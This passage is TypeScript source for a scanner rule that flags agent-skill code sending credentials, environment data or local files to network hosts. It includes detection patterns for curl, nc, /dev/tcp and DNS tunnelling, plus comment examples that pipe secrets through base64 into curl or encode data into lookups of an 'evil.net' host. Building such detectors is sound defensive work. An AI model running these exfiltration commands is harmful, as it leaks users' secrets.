import { matchAll } from "../../util/regex";
import { BARE_ADDRESS, encodedBlobsIn, hostOfAddress } from "../hidden";
import type { Region } from "../segment";
import { lineIndexAt } from "../text";
import { CRED_PATH, mayNameCredPath } from "./credentials";
import { secretReadLines, sitesOf } from "./flow";
import { brandOf, callText, codeRegions, colOf, hostDeclared, hostOf, lineOf, pyBlock } from "./helpers";
import { PROSE, textRule } from "./prompt-injection";
import { INSTRUCTION_NAME, namesInstructionFile } from "./taint";
import { type FileInfo, type FileRule, type Hit, type Rule, SECRET_ENV, type TextRule } from "./types";

export { CRED_PATH, mayNameCredPath };

const URL_RE = /\b(?:https?|wss?|ftp):\/\/[^\s'"`)<>\]]+/gi;
/** The first URL only: exec on the global URL_RE would leave a lastIndex that later matchAll calls start from. */
const FIRST_URL = new RegExp(URL_RE.source, "i");

/** Does the code read something a user would not expect to leave the machine? 2 = credentials/env, 1 = local files/command output. */
const ENV_DUMP =
  /os\.environ(?!\s*[[.]\s*(get\b|["']))|process\.env(?![.[])|\bprintenv\b|\benv\s*\||\/proc\/\S*environ/i;

/** A secret named in the statement itself ($NPM_TOKEN, os.environ["GITHUB_TOKEN"]), outside its own auth header. */
/** Data piped through an encoder into a transfer (`| base64 | curl --data @-`): hiding what leaves. */
const ENCODED_OUT =
  /\|\s*(?:base64|xxd|gzip|openssl\s+\w+|rev)\b[^\n]*\|\s*(?:curl|nc|wget)\b|\b(?:base64|xxd)\s+(?:-d\s+)?\S+\s*\|\s*(?:curl|nc|wget)\b/;

function namesSecret(s: string): boolean {
  const bare = s.replace(AUTH_PARTS, " ").replace(/(?:-H|--header|-u|--user)\s+("[^"]*"|'[^']*'|\S+)/g, " ");
  for (const m of matchAll(bare, /\$\{?([A-Z][A-Z0-9_]*)\}?|\$\(([A-Z][A-Z0-9_]*)\)/g))
    if (SECRET_ENV.test(m[1] ?? m[2] ?? "")) return true;
  for (const x of matchAll(bare, SECRET_READ))
    if (SECRET_ENV.test(x.slice(1).find(Boolean) ?? "")) return true;
  return false;
}

/** Code that encodes data into what DNS labels can carry ([a-z0-9-]). */
const ENCODES =
  /\b(?:b(?:16|32|64|85)encode|hexlify|urlsafe_b64encode|btoa)\s*\(|\.hex\(\)|toString\(\s*["'](?:hex|base64)|["'](?:hex|base64|base32)["']\s*\)/;

/** A URL that carries a secret as its password: `https://user:${TOKEN}@host`, `:${{ secrets.T }}@`. */
const URL_SECRET = /:\/\/[\w.%-]*:(?:\$\{\{[^}\n]*\}\}|\$\{?[A-Za-z_]\w*\}?)@/;

/** `withEnv` false: a dump of the environment does not count (E2 reports it where it is read). */
function sensitivity(s: string, withEnv = true): number {
  if (namesSecret(s) || ENCODED_OUT.test(s) || URL_SECRET.test(s)) return 2;
  if (
    (mayNameCredPath(s) && CRED_PATH.test(s)) ||
    (withEnv && ENV_DUMP.test(s)) ||
    /\bgetpass\b|\bkeyring\.|browser_cookie3|\bcookiejar\b/i.test(s)
  ) {
    return 2;
  }
  if (
    /\bopen\s*\(|read_text|read_bytes|readFile|\.read\(\)|createReadStream|\$\(\s*(cat|tar|zip|find|ls|git|base64)\b|`(cat|tar|find|ls)\b|\s@[~$/.\w]|<\s*[~/$]|\b(cat|tar|zip)\s+[^|]*\|\s*(curl|nc|wget)|check_output|execSync|subprocess|os\.walk|glob|listdir|readdir|iterdir|scandir|\bplatform\.\w+\s*\(|gethostname|getuser|whoami|hostname|uname|clipboard|pyperclip/i.test(
      s,
    )
  ) {
    return 1;
  }
  return 0;
}

interface SendSite {
  langs: string[];
  re: RegExp;
  /** The match opens a call whose arguments are the statement (else the line up to the match). */
  call: boolean;
  /** The statement must also match this. */
  needs?: RegExp;
  /** With nothing sensitive in the statement, a send only where the code encodes data. */
  encodedOnly?: boolean;
  /** A mail connection: what leaves is the message handed to send_message/sendmail after it. */
  mail?: boolean;
}

const SEND_SITES: SendSite[] = [
  {
    langs: ["python"],
    re: /\b(?:requests|httpx|session|sess|client|http|s)\.(?:post|put|patch)\s*\(/g,
    call: true,
  },
  { langs: ["python"], re: /\b(?:requests|httpx)\.request\s*\(\s*["'](?:POST|PUT|PATCH)/gi, call: true },
  {
    langs: ["python"],
    re: /\b(?:Session|Client|AsyncClient|ClientSession|PoolManager)\s*\([^()\n]*\)\s*\.(?:post|put|patch|request)\s*\(/g,
    call: true,
  },
  // Object-store uploads (boto3, google-cloud-storage): the local file named is what leaves.
  {
    langs: ["python"],
    re: /\.(?:upload_file|upload_fileobj|put_object|upload_from_filename|upload_from_string)\s*\(/g,
    call: true,
  },
  {
    langs: ["python"],
    re: /\b(?:urllib\.request\.)?Request\s*\(/g,
    call: true,
    needs: /\bdata\s*=|,\s*[\w.]+\s*[,)]/,
  },
  {
    langs: ["python"],
    re: /\burlopen\s*\(/g,
    call: true,
    needs: /\bdata\s*=|\(\s*[^,()]+,\s*(?!timeout\b|context\b)[^,()=]+[,)]/,
  },
  { langs: ["python"], re: /\bsmtplib\.SMTP(?:_SSL)?\s*\(/g, call: true, mail: true },
  { langs: ["python"], re: /\bftplib\.FTP(?:_TLS)?\s*\(/g, call: true },
  {
    langs: ["python", "js"],
    re: /\.(?:sendall|sendto)\s*\(|\bsocket\.create_connection\s*\(|\bnet\.connect\s*\(|\bnet\.createConnection\s*\(/g,
    call: true,
  },
  {
    langs: ["js"],
    re: /\bfetch\s*\(/g,
    call: true,
    needs: /\bmethod\s*:\s*["'`](?:POST|PUT|PATCH)|\bbody\s*:/i,
  },
  { langs: ["js"], re: /\b(?:axios|got|ky|superagent|request)\.(?:post|put|patch)\s*\(/g, call: true },
  {
    langs: ["js"],
    re: /\b(?:axios|got)\s*\(\s*\{/g,
    call: true,
    needs: /method\s*:\s*["'`](?:post|put|patch)/i,
  },
  {
    langs: ["js"],
    re: /(?:\bhttps?|\brequire\s*\(\s*["'`](?:node:)?https?["'`]\s*\))\.request\s*\(/g,
    call: true,
    needs: /method\s*:\s*["'`](?:POST|PUT|PATCH)/i,
  },
  { langs: ["js"], re: /\bnavigator\.sendBeacon\s*\(/g, call: true },
  {
    langs: ["shell", "powershell"],
    re: /\bcurl\b[^\n]*?\s(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|-F|--form|-T|--upload-file|-X\s*(?:POST|PUT|PATCH)|--request\s+(?:POST|PUT|PATCH)|--json)(?=[\s=])[^\n]*/g,
    call: false,
  },
  { langs: ["shell"], re: /\bwget\b[^\n]*--post-(?:data|file)[^\n]*/g, call: false },
  {
    langs: ["shell"],
    // The /dev/tcp branch starts at a line start: an unanchored leading [^\n]* is quadratic on long lines.
    re: /\b(?:nc|ncat|netcat|socat)\s+(?:-\w+\s+)*[\w.-]+\.[a-z]{2,}\s+\d{2,5}[^\n]*|^[^\n]*?>\s*\/dev\/(?:tcp|udp)\/[^\n]*/gm,
    call: false,
  },
  // The remote may be a variable ("$BASTION:/keys/"): unnamed, it still reports what it carries. It is
  // checked on the whole line (`needs`): a pattern searching on from every "scp" is quadratic in a line.
  {
    langs: ["shell"],
    re: /\b(?:scp|rsync|sftp)\s[^\n]*/g,
    call: false,
    needs: /\s["']?(?:[\w.-]+@[\w.-]+|\$\{?[A-Za-z_]\w*\}?):/,
  },
  // A push of the repository to a URL (a workflow's `run:` too): the history, and any token in it, leave.
  {
    langs: ["shell", "config"],
    re: /\bgit\s+push\b[^\n]*/g,
    call: false,
    needs: /\bgit\s+push\b.*?https?:\/\//,
  },
  {
    langs: ["shell"],
    re: /\b(?:nslookup|dig|host|ping)\s+[^\n]*\$(?:\([^\n]*\)|\{?\w+\}?)\.[\w.-]+[^\n]*/g,
    call: false,
  },
  // A lookup whose leftmost labels are built from data (f"{chunk}.{n}.x.evil.net"): DNS carries them out.
  // A sharded host name ("{region}.api.vendor.com") carries nothing, hence `encodedOnly`.
  {
    langs: ["python", "js"],
    re: /\b(?:socket\.(?:gethostbyname(?:_ex)?|getaddrinfo)|dns\.(?:resolve\w*|lookup)|(?:dns\.)?resolver\.(?:resolve|query))\s*\(/g,
    call: true,
    encodedOnly: true,
    needs:
      /(?:\}|\+\s*["'`])\.?(?:[\w-]+\.)+(?!(?:local|internal|lan|localhost|corp|home|arpa)(?![\w.-]))[a-z]{2,}(?![\w.-])/,
  },
  // A lookup or a transfer run through a process call: os.popen(f"dig {encoded}.x.evil.net").
  {
    langs: ["python", "js"],
    re: /\b(?:os\.popen|os\.system|subprocess\.\w+|execSync|exec|spawnSync)\s*\(/g,
    call: true,
    needs:
      /\b(?:dig|nslookup|host|ping)\s+[^"'`]*[{$][^"'`]*\.[\w-]+\.|\bcurl\b[^"'`]*\s(?:-d|--data|-F|-T|--upload-file)\b|\b(?:nc|ncat)\s+[\w.-]+\s+\d+/,
  },
  {
    langs: ["powershell"],
    re: /\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b[^\n]*-Method\s+["']?(?:Post|Put)[^\n]*/gi,
    call: false,
  },
  // Compiled languages (Go, C#, Java, Rust): the standard clients' calls that send a body.
  {
    langs: ["source"],
    re: /\bhttp\.(?:Post|PostForm)\s*\(|\.(?:PostAsync|PutAsync|PatchAsync)\s*\(|\.POST\s*\(\s*HttpRequest\.BodyPublishers\b|\breqwest::(?:blocking::)?Client::new\(\)\s*\.(?:post|put|patch)\s*\(/g,
    call: true,
  },
  {
    langs: ["source"],
    re: /\bhttp\.NewRequest(?:WithContext)?\s*\(/g,
    call: true,
    needs: /"(?:POST|PUT|PATCH)"|\bhttp\.Method(?:Post|Put|Patch)\b/,
  },
];

/** HTTP client objects bound to a name (`s = requests.Session()`, `async with httpx.AsyncClient() as c`). */
const CLIENT_BIND =
  /\b([A-Za-z_]\w*)\s*=\s*(?:await\s+)?(?:requests\.Session|httpx\.(?:Async)?Client|aiohttp\.ClientSession|urllib3\.PoolManager)\s*\(|\b(?:requests\.Session|httpx\.(?:Async)?Client|aiohttp\.ClientSession)\s*\([^()\n]*\)\s+as\s+([A-Za-z_]\w*)/g;

function clientSites(file: FileInfo): SendSite[] {
  const names = new Set<string>();
  for (const r of codeRegions(file, ["python"]))
    for (const m of matchAll(r.text, CLIENT_BIND)) names.add(m[1] ?? m[2] ?? "");
  // Names the fixed sites already cover.
  for (const n of ["", "requests", "httpx", "session", "sess", "client", "http", "s"]) names.delete(n);
  if (names.size === 0) return [];
  const alt = [...names].join("|");
  return [
    { langs: ["python"], re: new RegExp(`\\b(?:${alt})\\.(?:post|put|patch)\\s*\\(`, "g"), call: true },
    {
      langs: ["python"],
      re: new RegExp(`\\b(?:${alt})\\.request\\s*\\(\\s*["'](?:POST|PUT|PATCH)`, "gi"),
      call: true,
    },
  ];
}

const LIT = `"(?:[^"\\\\\\n]|\\\\.)*"|'(?:[^'\\\\\\n]|\\\\.)*'`;
const JOINED = new RegExp(
  `\\[\\s*((?:(?:${LIT})\\s*,\\s*)*(?:${LIT}))\\s*,?\\s*\\]\\s*\\.join\\(\\s*(${LIT})?\\s*\\)`,
  "g",
);
const CONCAT = new RegExp(`(${LIT})\\s*\\+\\s*(${LIT})`, "g");
const LIT_G = new RegExp(LIT, "g");
const unquote = (l: string) => l.slice(1, -1);

/**
 * String literals joined where they are written (`["https://", ["ingest", "x", "dev"].join("."),
 * "/v1/"].join("")`, `"https://" + "x.dev"`), folded into one literal: a host split into pieces is
 * still the host.
 */
export function foldLiterals(text: string): string {
  if (!text.includes(".join(") && !/["']\s*\+\s*["']/.test(text)) return text;
  let out = text;
  for (let pass = 0; pass < 4; pass++) {
    const next = out
      .replace(JOINED, (_m, items: string, sep?: string) =>
        JSON.stringify((items.match(LIT_G) ?? []).map(unquote).join(sep ? unquote(sep) : ",")),
      )
      .replace(CONCAT, (_m, a: string, b: string) => JSON.stringify(unquote(a) + unquote(b)));
    if (next === out) break;
    out = next;
  }
  return out;
}

let folded: [string, string] = ["", ""];
const foldedFile = (text: string): string => {
  if (folded[0] !== text) folded = [text, foldLiterals(text)];
  return folded[1];
};

function resolveHost(stmt0: string, fileText0: string): string | null {
  const stmt = foldLiterals(stmt0);
  const fileText = foldedFile(fileText0);
  // A workflow expression in a URL's credentials ("https://x:${{ secrets.T }}@host") holds spaces.
  const lit = FIRST_URL.exec(stmt.replace(/\$\{\{[^}\n]*\}\}/g, "x"));
  if (lit) return hostOf(lit[0]);
  // Node's request options name the host without a scheme: { host: "x.example", method: "POST" }.
  const opt = /\bhost(?:name)?\s*:\s*["'`]([a-z0-9-]+(?:\.[a-z0-9-]+)+)["'`]/i.exec(stmt);
  if (opt?.[1]) return opt[1].toLowerCase();
  // DNS exfiltration: data as the leftmost labels of a lookup, "$(...).x.evil.net", "{enc}.x.evil.net".
  const dns = /(?:\)|\}|\$\w+)\.((?:[a-z0-9-]+\.)+[a-z]{2,})\b/i.exec(stmt);
  if (dns?.[1]) return dns[1].toLowerCase();
  const bare = /\s([a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,})(?::\d+|\s+\d{2,5}\b)/i.exec(stmt);
  if (bare?.[1]) return bare[1].toLowerCase();
  for (const id of new Set(stmt.match(/\b[A-Za-z_][A-Za-z0-9_]*\b/g) ?? [])) {
    if (id.length < 2) continue;
    const def = new RegExp(`\\b${id}\\s*[:=][^\\n]*?[frbu]?["'\`]((?:https?|wss?|ftp)://[^"'\`\\s]+)`).exec(
      fileText,
    );
    if (def?.[1]) return hostOf(def[1]);
  }
  return null;
}

const SECRET_READ =
  /\bos\.environ\s*\[\s*["']([A-Z0-9_]+)["']|\b(?:os\.)?(?:environ\.get|getenv)\s*\(\s*["']([A-Z0-9_]+)["']|\bprocess\.env\.([A-Z0-9_]+)|\bprocess\.env\[\s*["'`]([A-Z0-9_]+)/g;

/** Credentials sent as authentication to their own service are expected; strip those parts of a call. */
const AUTH_PARTS =
  /\b(headers|auth|Authorization|token|api_key|apikey|params)\s*[:=]\s*(\{[^}]*\}|\([^)]*\)|[^,)\n]+)/gi;

/**
 * Names holding sensitive data, followed through assignments (x = {..., env: process.env}; body = {x}).
 * 2 = credentials, secrets or the whole environment; 1 = host/user/file data.
 */
function taintedNames(text: string, withEnv = true, seed?: Map<string, number>): Map<string, number> {
  const out = new Map<string, number>(seed);
  // Statement-level assignments only: `json=body` inside a call is a keyword argument.
  const assign =
    /(?:^[ \t]*|[;{][ \t]*|\b(?:const|let|var)\s+)([A-Za-z_$][\w$]*)\s*(?:\[[^\]\n]*\]|\.([A-Za-z_$][\w$]*))?\s*(?<![=!<>])=(?![=>])\s*/gm;
  for (let pass = 0; pass < 3; pass++) {
    for (const m of matchAll(text, assign)) {
      // A line after an open bracket or a comma continues a call: `api_key=os.getenv(...),` there is a
      // keyword argument of that call, not a variable of the file.
      const start = m.index ?? 0;
      if (
        (start === 0 || text[start - 1] === "\n") &&
        /[(,[]\s*$/.test(text.slice(Math.max(0, start - 200), start))
      )
        continue;
      // self.api_key = ...: the attribute holds the value, not the whole object.
      const name = m[2] ?? m[1] ?? "";
      const at = (m.index ?? 0) + m[0].length;
      const rhs = rhsText(text, at);
      let level = sensitivity(rhs, withEnv);
      // A secret sent as the request's own authentication is expected (AUTH_PARTS).
      for (const x of matchAll(rhs.replace(AUTH_PARTS, " "), SECRET_READ))
        if (SECRET_ENV.test(x.slice(1).find(Boolean) ?? "")) level = 2;
      if (
        /\b(os\.hostname|os\.userInfo|getpass\.getuser|socket\.gethostname|os\.getlogin|platform\.node)\s*\(/.test(
          rhs,
        )
      )
        level = Math.max(level, 1);
      level = Math.max(level, taintOf(rhs, out));
      if (level > (out.get(name) ?? 0)) out.set(name, level);
    }
  }
  return out;
}

/** Words inside string literals are text, not names; interpolations (f"{x}", `${x}`) stay. */
const STRING_LIT = /(["'`])(?:\\.|(?!\1)[^\\\n])*\1/g;
const interpolations = (s: string) =>
  s.replace(STRING_LIT, (lit) => (lit.match(/\{[^{}]*\}/g) ?? []).join(" "));

/** The value of an assignment: to the end of its line, or on to where a bracket opened there closes. */
function rhsText(text: string, at: number): string {
  if (/^[{[(]/.test(text[at] ?? "")) return callText(text, at, 3000);
  const eol = text.indexOf("\n", at) < 0 ? text.length : text.indexOf("\n", at);
  const line = text.slice(at, eol);
  let depth = 0;
  let open = -1;
  for (let k = 0; k < line.length; k++) {
    const c = line[k];
    if (c === "(" || c === "[" || c === "{") {
      if (depth === 0) open = k;
      depth++;
    } else if (c === ")" || c === "]" || c === "}") depth = Math.max(0, depth - 1);
  }
  // `payload = dict(` with its arguments on the following lines.
  return depth > 0 && open >= 0 ? line.slice(0, open) + callText(text, at + open, 3000) : line;
}

function taintOf(stmt: string, taint: Map<string, number>): number {
  if (taint.size === 0) return 0;
  const bare = interpolations(stmt.replace(AUTH_PARTS, " "));
  let level = 0;
  for (const id of bare.match(/[A-Za-z_$][\w$]*/g) ?? []) level = Math.max(level, taint.get(id) ?? 0);
  return level;
}

/** The name a call's result is bound to (`req = Request(`, `const req = https.request(`). */
function boundName(text: string, at: number): string | null {
  const head = text.slice(text.lastIndexOf("\n", at - 1) + 1, at);
  return (
    /(?:^|[;{(]|\b(?:const|let|var))\s*([A-Za-z_$][\w$]*)\s*=\s*(?:await\s+)?(?:[\w$.]+\.)?$/.exec(
      head,
    )?.[1] ?? null
  );
}

/** A request object built on one line and opened later (`urlopen(req)`) leaves where it is opened. */
function openedAt(text: string, at: number): number {
  const name = boundName(text, at);
  if (!name) return at;
  const open = new RegExp(`\\b(?:urlopen|\\w+\\.open)\\s*\\(\\s*${name.replace(/\$/g, "\\$")}\\b`, "g");
  open.lastIndex = at;
  return open.exec(text)?.index ?? at;
}

/** What a Node request writes: `.end(body)` chained on the call or on the name it is bound to. */
function bodyWritten(text: string, m: RegExpExecArray, call: string): string {
  const after = m.index + m[0].length - 1 + call.length;
  let out = "";
  const chained = /^\s*\.(?:end|write)\s*\(/.exec(text.slice(after, after + 200));
  if (chained) out += callText(text, after + chained[0].length - 1);
  const name = boundName(text, m.index);
  if (name) {
    const re = new RegExp(`\\b${name.replace(/\$/g, "\\$")}\\.(?:end|write)\\s*\\(`, "g");
    re.lastIndex = after;
    for (let w = re.exec(text); w && w.index - after < 3000; w = re.exec(text))
      out += ` ${callText(text, w.index + w[0].length - 1)}`;
  }
  return out;
}

/** A file the skill hands over as a starting point for the user's own app. */
const APP_TEMPLATE =
  /(?:^|\/)(?:templates?|examples?|samples?|boilerplate|starter)\/|[-_.](?:example|sample|template)\.\w+$/i;

/**
 * The message a mail connection sends: `s.send_message(msg)` (or sendmail's last argument) after the
 * connection, and every statement that fills `msg` in (set_content, attach, headers, MIMEText).
 */
function mailSent(text: string, from: number): { at: number; body: string; host: string | null } | null {
  const send = /\.(?:send_message|sendmail)\s*\(([^()\n]*(?:\([^()\n]*\)[^()\n]*)*)\)/g;
  send.lastIndex = from;
  const m = send.exec(text);
  if (!m || m.index - from > 3000) return null;
  const name = /([A-Za-z_]\w*)(?:\.as_\w+\(\))?\s*$/.exec(m[1] ?? "")?.[1];
  // The server named in the connection (a bare host, no scheme for resolveHost to find).
  const host =
    /^\(\s*[rbf]?["']([a-z0-9-]+(?:\.[a-z0-9-]+)+)["']/i.exec(
      callText(text, text.indexOf("(", from), 200),
    )?.[1] ?? null;
  if (!name) return { at: m.index, body: m[0], host };
  const fills = new RegExp(
    `^.*\\b${name}\\s*(?:\\.(?:set_content|add_attachment|attach|set_payload|add_alternative)\\s*\\(|\\[[^\\]\\n]*\\]\\s*=|=).*$`,
    "gm",
  );
  const body = [...matchAll(text.slice(Math.max(0, from - 3000), m.index), fills)].map((f) => f[0]);
  return { at: m.index, body: `${m[0]} ${body.join(" ")}`, host };
}

/** Every call or command line that sends data out, with the statement that carries it. */
function* sendStatements(file: FileInfo): Generator<{
  site: SendSite;
  r: Region;
  m: RegExpExecArray;
  stmt: string;
  at: number;
  host?: string | null;
}> {
  for (const site of [...SEND_SITES, ...clientSites(file)]) {
    for (const r of codeRegions(file, site.langs)) {
      site.re.lastIndex = 0;
      for (let m = site.re.exec(r.text); m; m = site.re.exec(r.text)) {
        // A command line reads whole: `echo $X | base64 | curl --data @-` sends what the pipe feeds it.
        const stmt = site.call
          ? callText(r.text, m.index + m[0].length - 1)
          : r.text.slice(r.text.lastIndexOf("\n", m.index) + 1, m.index + m[0].length);
        if (site.needs && !site.needs.test(stmt)) continue;
        const mail = site.mail ? mailSent(r.text, m.index) : null;
        if (mail) {
          yield { site, r, m, stmt: `${stmt} ${mail.body}`, at: mail.at, host: mail.host };
          continue;
        }
        const at = site.call ? openedAt(r.text, m.index) : m.index;
        yield {
          site,
          r,
          m,
          stmt: site.call && r.lang === "js" ? stmt + bodyWritten(r.text, m, stmt) : stmt,
          at,
        };
      }
    }
  }
}

const E1_SEND: FileRule = {
  kind: "file",
  id: "E1.send-data",
  pattern: "E1",
  confidence: 0.75,
  message: "Sends local data to a network endpoint",
  check: (file, skill) => {
    const out: Hit[] = [];
    // Data flow and whole-file sensitivity are only needed once a send site is found.
    let fileSensMemo: number | undefined;
    const fileSens = () =>
      (fileSensMemo ??= file.script
        ? sensitivity(file.regions.find((r) => r.ctx === "code")?.text ?? "")
        : 0);

    // Python names resolve in the function that sends: `data` of one method is not `data` of another.
    const scopes = new Map<string, { all: Map<string, number>; noEnv: Map<string, number>; text: string }>();
    let fnTaint: Map<string, number> | undefined;
    const scopeOf = (r: Region, off: number) => {
      const py = r.lang === "python";
      const line = py ? lineIndexAt(r.starts, off) : -1;
      const defs = py ? pyDefsOf(r) : [];
      // Names of Python or JS code do not flow into a shell block (commands.ts reads shell data flow).
      const key = py ? `${r.startLine}:${innermostDef(defs, line)}` : r.lang === "js" ? "js" : "none";
      let sc = scopes.get(key);
      if (!sc) {
        fnTaint ??= functionTaint(file);
        const texts = py
          ? [pyScopeText(r, defs, line)]
          : r.lang === "js"
            ? codeRegions(file, ["python", "js"]).map((x) => x.text)
            : [];
        const all = new Map(key === "none" ? [] : fnTaint);
        const noEnv = new Map(all);
        for (const t of texts) {
          for (const [k, v] of taintedNames(t, true, all)) if (v > (all.get(k) ?? 0)) all.set(k, v);
          for (const [k, v] of taintedNames(t, false, noEnv)) if (v > (noEnv.get(k) ?? 0)) noEnv.set(k, v);
        }
        sc = { all, noEnv, text: texts[0] ?? "" };
        scopes.set(key, sc);
      }
      return { ...sc, text: py ? sc.text : r.text };
    };
    let hidden: Map<string, string> | undefined;
    for (const { site, r, m, stmt, at, host: server } of sendStatements(file)) {
      const scope = scopeOf(r, m.index);
      let host = resolveHost(`${m[0]} ${stmt}`, scope.text) ?? server ?? null;
      // A destination kept encoded ("_SINK = bytes([104, 116, ...])") is decoded where it is defined.
      if (!host) {
        hidden ??= encodedAddresses(file);
        for (const id of stmt.match(/\b[A-Za-z_$][\w$]*\b/g) ?? []) host ??= hidden.get(id) ?? null;
      }
      // What leaves beyond an environment dump decides: the dump itself is the E2 where it is read,
      // and when nothing else of note (host, files, output) goes with it there is no separate E1.
      const sens = Math.max(sensitivity(stmt, false), taintOf(stmt, scope.noEnv));
      if (sens < 1 && Math.max(sensitivity(stmt), taintOf(stmt, scope.all)) === 2) continue;
      if (site.encodedOnly && sens < 1 && !ENCODES.test(r.text)) continue;
      // A document's example call to a documentation host (RFC 2606) sends nothing anywhere. A program
      // the skill ships, or a secret in the example, still shows what it is written to do.
      if (sens < 2 && file.markdown && host && RESERVED_HOST.test(host)) continue;
      if (sens === 2 && host && vendorKeysOnly(host, file, scope.text)) {
        // The key may authenticate (a header, the query, a login's password field); in the content
        // it is being delivered (a token posted into a gist is still the token leaving).
        const body = /\b(?:data|json|body|files|content)\s*[=:]/.exec(stmt);
        const carried = body ? stmt.slice(body.index).replace(CREDENTIAL_FIELD, " ") : "";
        if (Math.max(sensitivity(carried, false), taintOf(carried, scope.noEnv)) < 2) continue;
      }
      const declared = host
        ? hostDeclared(host, skill.declaredHosts) || keyForHost(host, stmt, r.text)
        : true;
      let conf = 0;
      if (sens === 2) conf = 0.85;
      // A program in a document's code block that sends nothing local is an example of calling an API
      // (a command line is not: what a pipe feeds it is local output).
      // So is application code the skill ships as a template or example for the user's project: its
      // requests carry what the app's callers pass in, when the user's app runs.
      else if (
        sens === 0 &&
        (r.lang === "js" || r.lang === "python") &&
        (file.markdown || APP_TEMPLATE.test(file.path))
      )
        conf = 0;
      // A shell command whose body is a literal (no variable, file, substitution or piped input)
      // sends only what is written in it: a query to an API, not local data.
      else if (
        host &&
        !declared &&
        !(
          sens === 0 &&
          /^(?:shell|dockerfile|powershell)$/.test(r.lang) &&
          !/[$`]|(?:^|[\s="'])@\S|\|[^|]*\bcurl\b/.test(stmt) &&
          !/\|\s*$/.test(r.text.slice(Math.max(0, r.text.lastIndexOf("\n", m.index - 2)), m.index))
        )
      )
        conf = sens === 1 || fileSens() >= 1 ? 0.8 : 0.7;
      if (conf === 0) continue;
      const what =
        sens === 2 ? "credentials or environment data" : sens === 1 ? "local file or command output" : "data";
      out.push({
        line: lineOf(r, at),
        col: colOf(r, at),
        confidence: conf,
        // Named secrets or credential files, beyond any environment dump sent with them.
        ...(sens === 2 ? { rule: "send-credentials" } : {}),
        message: `Sends ${what} to ${host ?? "a network endpoint"}${host && !declared ? ", a host the skill's documentation never mentions" : ""}`,
      });
    }
    // Two sites can match one call (a bound client named like a fixed one): one finding per line.
    return out.filter((h, k) => out.findIndex((x) => x.line === h.line) === k);
  },
};

/** "s3://my-bucket", "s3://bucket-name/", "s3://my-helm-charts": the documentation's name for the reader's own bucket. */
const PLACEHOLDER_BUCKET =
  /^(?:(?:my|your|example|sample)[-_]?)?bucket(?:[-_]?name)?$|^(?:my|your|example|sample)[-_]/;

/** Names assigned an address that is written encoded, with the decoded host. */
function encodedAddresses(file: FileInfo): Map<string, string> {
  const out = new Map<string, string>();
  for (const d of encodedBlobsIn(file)) {
    if (!BARE_ADDRESS.test(d.text)) continue;
    const name = /^\s*(?:(?:const|let|var)\s+)?([A-Za-z_$][\w$]*)\s*(?::[^=\n]+)?=(?!=)/.exec(
      file.lines[d.line - 1] ?? "",
    )?.[1];
    const address = d.text.trim();
    const host = /^[a-z][\w+.-]*:\/\//i.test(address) ? hostOf(address) : hostOfAddress(address);
    if (name && host) out.set(name, host.toLowerCase());
  }
  return out;
}

const RESERVED_HOST = /(?:^|\.)(?:example\.(?:com|org|net)|example|test|invalid|localhost)$/i;

/** A login's or an API client's credential field: where a service expects its own key. */
const CREDENTIAL_FIELD =
  /["']?\b(?:password|passwd|identifier|username|(?:api_?)?key(?:_?location)?|client_?secret|client_?id)["']?\s*[:=]\s*(?:`[^`]*`|"[^"]*"|'[^']*'|[^,}\n)]+)/gi;

/** Services whose keys are named for the product rather than the host's brand. */
const KEY_PREFIXES = new Map<string, string[]>([
  ["googleapis", ["google", "gemini", "gcp", "gcloud", "vertex", "youtube"]],
  ["bsky", ["bluesky", "atproto"]],
  ["cloudflare", ["cf"]],
  ["github", ["gh"]],
  ["githubusercontent", ["gh"]],
  ["huggingface", ["hf"]],
  ["amazonaws", ["aws"]],
  ["anthropic", ["claude"]],
  ["atlassian", ["jira", "confluence"]],
]);

/**
 * Every secret the program names belongs to the service it sends to (BSKY_APP_PASSWORD to bsky.social,
 * GEMINI_API_KEY to generativelanguage.googleapis.com) and it reads no credential store: logging in to
 * or calling that service, the key's purpose. A lookalike host (openai-relay.io) is another brand.
 */
function vendorKeysOnly(host: string, file: FileInfo, scope: string): boolean {
  const brand = brandOf(host.toLowerCase()) ?? "";
  if (brand.length < 3) return false;
  const own = [brand, ...(KEY_PREFIXES.get(brand) ?? [])];
  const text = codeRegions(file)
    .map((r) => r.text)
    .join("\n");
  // A credential file, a keyring or the whole environment where it sends is never one service's.
  if (
    (mayNameCredPath(text) && CRED_PATH.test(text)) ||
    ENV_DUMP.test(scope) ||
    /\bkeyring\.|browser_cookie3|\bcookiejar\b/i.test(text)
  )
    return false;
  let named = false;
  for (const m of matchAll(text, /\b([A-Z][A-Z0-9]*)(?:_[A-Z0-9]+)+\b/g)) {
    if (!SECRET_ENV.test(m[0])) continue;
    if (!own.includes((m[1] ?? "").toLowerCase())) return false;
    named = true;
  }
  return named;
}

/**
 * The request authenticates with the key of the service it goes to (OPENROUTER_API_KEY to
 * openrouter.ai): that is using the service's API, its documented purpose.
 */
function keyForHost(host: string, stmt: string, text: string): boolean {
  // A request that carries no authentication does not use the service's key, whatever the file holds.
  if (
    !/\b(?:headers|auth|Authorization|api_?key|apikey|token|X-Api-Key|Bearer)\b|\s-H\s|--header|-u\s|--user\b/i.test(
      stmt,
    )
  )
    return false;
  const labels = host.split(".");
  const brand = (labels.length >= 2 ? labels[labels.length - 2] : labels[0])?.replace(/-/g, "") ?? "";
  if (brand.length < 4) return false;
  const own = KEY_PREFIXES.get(brand) ?? [];
  const names = [
    ...matchAll(
      `${stmt}\n${text}`,
      /\b([A-Z][A-Z0-9]*(?:_[A-Z0-9]+)*_(?:API_?KEY|KEY|TOKEN|SECRET|PASSWORD))\b/g,
    ),
  ].map((m) => m[1] ?? "");
  return names.some((name) => {
    const n = name.toLowerCase().replace(/_/g, "");
    return (
      n.startsWith(brand) ||
      brand.startsWith(n.replace(/(apikey|key|token|secret|password)$/, "")) ||
      own.includes(name.slice(0, name.indexOf("_")).toLowerCase())
    );
  });
}

interface PyDef {
  from: number;
  to: number;
  init: boolean;
}

/** Python `def` blocks of a region, as region line ranges; computed once per region. */
const defsCache = new WeakMap<Region, PyDef[]>();
function pyDefsOf(r: Region): PyDef[] {
  let defs = defsCache.get(r);
  if (defs) return defs;
  defs = [];
  const lines = r.text.split("\n");
  for (let i = 0; i < lines.length; i++) {
    const m = /^\s*(?:async\s+)?def\s+([A-Za-z_]\w*)/.exec(lines[i] ?? "");
    if (!m) continue;
    const body = pyBlock(lines, i);
